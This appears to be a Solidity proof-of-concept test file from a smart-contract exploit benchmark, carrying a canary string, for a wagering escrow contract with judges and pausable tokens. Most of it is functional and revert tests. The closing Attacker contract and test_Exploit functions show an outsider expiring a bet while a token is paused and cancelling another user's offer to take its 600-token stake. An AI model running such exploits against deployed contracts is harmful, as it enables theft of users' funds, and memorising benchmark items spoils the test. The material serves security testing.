// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

// assay-canary-e15c12f1-19ca-4b6d-a278-37c48bbcd29d

import "./WagerEscrow.sol";
import "./context/Judges.sol";
import "./context/StakeToken.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert(bytes calldata reason) external;
}

/// No party and no judge.
contract Attacker {
    function run(WagerEscrow escrow, uint256 id) external {
        escrow.expire(id);
    }

    function tidy(WagerEscrow escrow, uint256 id) external {
        escrow.cancel(id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_766_500_000;
    address private constant ANN = address(0xA22);
    address private constant BOB = address(0xB0B);
    address private constant JUDGE = address(0x70D6E);
    address private constant SECOND = address(0x70D6F);
    address private constant TREASURY = address(0x7EA);
    address private constant ISSUER = address(0x155);
    bytes32 private constant TERMS = keccak256("who scores first");

    StakeToken public usd;
    StakeToken public gold;
    Judges public judges;
    WagerEscrow public escrow;
    Attacker public passer;
    uint256 public late;
    uint256 public stale;

    function setUp() public {
        vm.warp(START);
        usd = new StakeToken("Settlement Dollar", "SUSD");
        gold = new StakeToken("Settlement Gold", "SXAU");
        judges = new Judges();
        escrow = new WagerEscrow(judges, 150, TREASURY);
        escrow.list(usd, 10e18);
        escrow.list(gold, 1e18);
        passer = new Attacker();
        vm.prank(JUDGE);
        judges.enroll(50);
        fund(ANN);
        fund(BOB);
        late = offer(ANN, usd, BOB, 700e18, START + 10 days);
        vm.prank(BOB);
        escrow.accept(late);
        stale = offer(ANN, gold, address(0), 600e18, START + 12 days);
        vm.warp(START + 14 days);
        usd.pause();
    }

    function fund(address who) private {
        usd.mint(who, 2_000e18);
        gold.mint(who, 2_000e18);
        vm.startPrank(who);
        usd.approve(address(escrow), uint256(-1));
        gold.approve(address(escrow), uint256(-1));
        vm.stopPrank();
    }

    function offer(address who, StakeToken t, address taker, uint96 a, uint256 end) private returns (uint256) {
        vm.prank(who);
        return escrow.offer(t, taker, JUDGE, a, uint64(end), TERMS);
    }

    function live(StakeToken t, uint96 a) private returns (uint256 id) {
        id = offer(BOB, t, ANN, a, block.timestamp + 5 days);
        vm.prank(ANN);
        escrow.accept(id);
    }

    function stakeOf(uint256 id) private view returns (uint256) {
        (,,, IERC20 t, uint96 a,,,, WagerEscrow.State s) = escrow.bets(id);
        if (t != usd) return 0;
        return s == WagerEscrow.State.Open ? a : s == WagerEscrow.State.Live ? 2 * uint256(a) : 0;
    }

    /// Dollars that the two parties have or can still get.
    function partiesDollars() public view returns (uint256 sum) {
        sum = usd.balanceOf(ANN) + usd.balanceOf(BOB) + escrow.credit(usd, ANN) + escrow.credit(usd, BOB);
        for (uint256 i = 0; i < escrow.count(); ++i) {
            sum += stakeOf(i);
        }
    }

    function collectAny(address who, IERC20 t) private {
        if (escrow.credit(t, who) == 0) return;
        vm.prank(who);
        escrow.collect(t, who);
    }

    function test_Regular() public {
        require(partiesDollars() == 4_000e18 && escrow.overdue(late) && escrow.terms(late) == TERMS, "at first");
        usd.unpause();
        escrow.expire(late);
        collectAny(ANN, usd);
        collectAny(BOB, usd);
        require(usd.balanceOf(ANN) == 2_000e18 && usd.balanceOf(BOB) == 2_000e18, "stakes are back");
        require(!escrow.overdue(late), "expired");
        vm.prank(ANN);
        escrow.cancel(stale);
        require(gold.balanceOf(ANN) == 2_000e18, "canceled");
        uint256 id = offer(BOB, gold, ANN, 5e18, block.timestamp + 1 days);
        vm.prank(BOB);
        escrow.cancel(id);
        require(gold.balanceOf(BOB) == 2_000e18, "canceled early");

        // One is decided, one conceded, one decided by another judge, one annulled.
        id = live(gold, 100e18);
        require(escrow.prizeOf(id) == 196e18, "prize");
        vm.prank(JUDGE);
        escrow.decide(id, false);
        vm.prank(ANN);
        require(escrow.collect(gold, SECOND) == 196e18 && gold.balanceOf(SECOND) == 196e18, "won");
        vm.prank(JUDGE);
        escrow.collect(gold, JUDGE);
        require(gold.balanceOf(JUDGE) == 1e18 && escrow.credit(gold, TREASURY) == 3e18, "cut and fee");

        id = live(gold, 200e18);
        vm.prank(BOB);
        escrow.concede(id);
        require(escrow.credit(gold, ANN) == 394e18 && escrow.credit(gold, JUDGE) == 0, "conceded");
        collectAny(ANN, gold);
        id = live(gold, 10e18);
        vm.prank(ANN);
        escrow.concede(id);
        require(escrow.credit(gold, BOB) == 19.7e18, "conceded by the taker");
        collectAny(BOB, gold);

        id = live(gold, 100e18);
        vm.prank(SECOND);
        judges.enroll(200);
        vm.prank(ANN);
        escrow.pick(id, SECOND);
        (,, address judge,,,, uint16 cut,,) = escrow.bets(id);
        require(judge == JUDGE && cut == 50 && escrow.picks(id, ANN) == SECOND, "one has picked");
        vm.prank(BOB);
        escrow.pick(id, SECOND);
        vm.prank(SECOND);
        escrow.decide(id, true);
        require(escrow.credit(gold, BOB) == 193e18 && escrow.credit(gold, SECOND) == 4e18, "by another judge");
        collectAny(BOB, gold);

        uint256 had = gold.balanceOf(ANN);
        id = live(gold, 50e18);
        vm.prank(JUDGE);
        escrow.annul(id);
        collectAny(BOB, gold);
        collectAny(ANN, gold);
        require(gold.balanceOf(ANN) == had && escrow.betsOf(ANN).length == 7, "annulled");
        require(gold.balanceOf(address(escrow)) == 16.3e18, "fees and a cut are left");
        settings();
    }

    function settings() private {
        escrow.setFee(500);
        escrow.setTreasury(ISSUER);
        escrow.list(gold, 5e18);
        escrow.delist(usd);
        escrow.pause();
        escrow.unpause();
        require(escrow.fee() == 500 && escrow.treasury() == ISSUER && escrow.least(usd) == 0, "settings");
        judges.bar(JUDGE, true);
        vm.prank(SECOND);
        judges.retire();
        require(!judges.serves(JUDGE) && !judges.serves(SECOND), "no judges");
        escrow.transferOwnership(ISSUER);
        vm.prank(ISSUER);
        escrow.renounceOwnership();
        judges.transferOwnership(ISSUER);
        vm.prank(ISSUER);
        judges.renounceOwnership();
        gold.transferOwnership(ISSUER);
        vm.prank(ISSUER);
        gold.renounceOwnership();
        vm.startPrank(ANN);
        gold.increaseAllowance(BOB, 3e18);
        gold.decreaseAllowance(BOB, 1e18);
        usd.transfer(BOB, 1e18);
        vm.stopPrank();
        vm.prank(BOB);
        gold.transferFrom(ANN, BOB, 2e18);
        require(escrow.owner() == address(0) && judges.owner() == address(0), "handed over");
    }

    function refuses(address who, bytes memory why) private {
        vm.prank(who);
        vm.expectRevert(why);
    }

    function test_RefusesStrangers() public {
        bytes memory why = "Ownable: caller is not the owner";
        refuses(ANN, why);
        escrow.list(usd, 1);
        refuses(ANN, why);
        escrow.delist(usd);
        refuses(ANN, why);
        escrow.setFee(0);
        refuses(ANN, why);
        escrow.setTreasury(ANN);
        refuses(ANN, why);
        escrow.pause();
        refuses(ANN, why);
        judges.bar(JUDGE, true);
        refuses(ANN, why);
        gold.mint(ANN, 1);
        refuses(ANN, why);
        gold.pause();
        refuses(ANN, why);
        usd.unpause();
        escrow.pause();
        refuses(ANN, why);
        escrow.unpause();
    }

    function test_RefusesOffers() public {
        uint64 end = uint64(block.timestamp + 5 days);
        vm.startPrank(ANN);
        vm.expectRevert("stake");
        escrow.offer(gold, BOB, JUDGE, 1e18 - 1, end, TERMS);
        vm.expectRevert("stake");
        escrow.offer(IERC20(address(judges)), BOB, JUDGE, 1e18, end, TERMS);
        vm.expectRevert("taker");
        escrow.offer(gold, ANN, JUDGE, 1e18, end, TERMS);
        vm.expectRevert("judge");
        escrow.offer(gold, JUDGE, JUDGE, 1e18, end, TERMS);
        vm.expectRevert("serves");
        escrow.offer(gold, BOB, SECOND, 1e18, end, TERMS);
        vm.expectRevert("end");
        escrow.offer(gold, BOB, JUDGE, 1e18, uint64(block.timestamp), TERMS);
        vm.expectRevert("end");
        escrow.offer(gold, BOB, JUDGE, 1e18, uint64(block.timestamp + 365 days + 1), TERMS);
        vm.expectRevert("terms");
        escrow.offer(gold, BOB, JUDGE, 1e18, end, 0);
        vm.stopPrank();
        refuses(JUDGE, "judge");
        escrow.offer(gold, BOB, JUDGE, 1e18, end, TERMS);
        uint256 id = offer(ANN, gold, address(0), 1e18, end);
        escrow.pause();
        refuses(ANN, "Pausable: paused");
        escrow.offer(gold, BOB, JUDGE, 1e18, end, TERMS);
        refuses(BOB, "Pausable: paused");
        escrow.accept(id);
    }

    function test_RefusesAcceptances() public {
        uint256 id = offer(ANN, gold, BOB, 1e18, block.timestamp + 5 days);
        refuses(JUDGE, "taker");
        escrow.accept(id);
        uint256 any = offer(ANN, gold, address(0), 1e18, block.timestamp + 5 days);
        refuses(ANN, "party");
        escrow.accept(any);
        refuses(JUDGE, "party");
        escrow.accept(any);
        refuses(BOB, "late");
        escrow.accept(stale);
        refuses(BOB, "state");
        escrow.accept(late);
        refuses(BOB, "id");
        escrow.accept(99);
        refuses(BOB, "maker");
        escrow.cancel(id);
        vm.expectRevert("id");
        escrow.cancel(99);
        refuses(ANN, "state");
        escrow.cancel(late);
    }

    function test_RefusesPicks() public {
        refuses(JUDGE, "party");
        escrow.pick(late, JUDGE);
        refuses(ANN, "serves");
        escrow.pick(late, SECOND);
        vm.prank(ANN);
        judges.enroll(0);
        refuses(BOB, "judge");
        escrow.pick(late, ANN);
        vm.prank(BOB);
        judges.enroll(0);
        refuses(ANN, "judge");
        escrow.pick(late, BOB);
        refuses(ANN, "state");
        escrow.pick(stale, JUDGE);
        refuses(ANN, "id");
        escrow.pick(99, JUDGE);
    }

    function test_RefusesEndings() public {
        refuses(ANN, "judge");
        escrow.decide(late, true);
        refuses(ANN, "judge");
        escrow.annul(late);
        refuses(JUDGE, "party");
        escrow.concede(late);
        refuses(JUDGE, "state");
        escrow.decide(stale, true);
        refuses(JUDGE, "state");
        escrow.annul(stale);
        refuses(ANN, "state");
        escrow.concede(stale);
        vm.warp(START + 30 days);
        vm.expectRevert("state");
        escrow.expire(stale);
        refuses(JUDGE, "id");
        escrow.decide(99, true);
        refuses(JUDGE, "id");
        escrow.annul(99);
        refuses(ANN, "id");
        escrow.concede(99);
        vm.expectRevert("id");
        escrow.expire(99);
        refuses(ANN, "credit");
        escrow.collect(gold, ANN);
        uint256 id = live(gold, 1e18);
        vm.warp(START + 38 days);
        vm.expectRevert("grace");
        escrow.expire(id);
    }

    function test_RefusesSettings() public {
        vm.expectRevert("judges");
        new WagerEscrow(IJudges(address(0)), 0, TREASURY);
        vm.expectRevert("fee");
        escrow.setFee(501);
        vm.expectRevert("treasury");
        escrow.setTreasury(address(0));
        vm.expectRevert("list");
        escrow.list(IERC20(address(0)), 1);
        vm.expectRevert("list");
        escrow.list(gold, 0);
        refuses(JUDGE, "cut");
        judges.enroll(201);
    }

    function exploit() public {
        passer.run(escrow, late);
    }

    function test_Exploit() public {
        uint256 before = partiesDollars();
        exploit();
        require(partiesDollars() + 1_400e18 <= before, "stakes are lost");
    }

    function exploit2() public {
        passer.tidy(escrow, stale);
    }

    function test_Exploit2() public {
        exploit2();
        require(gold.balanceOf(address(passer)) == 600e18, "the maker's stake");
    }

    function target() public view returns (address) {
        return address(escrow);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
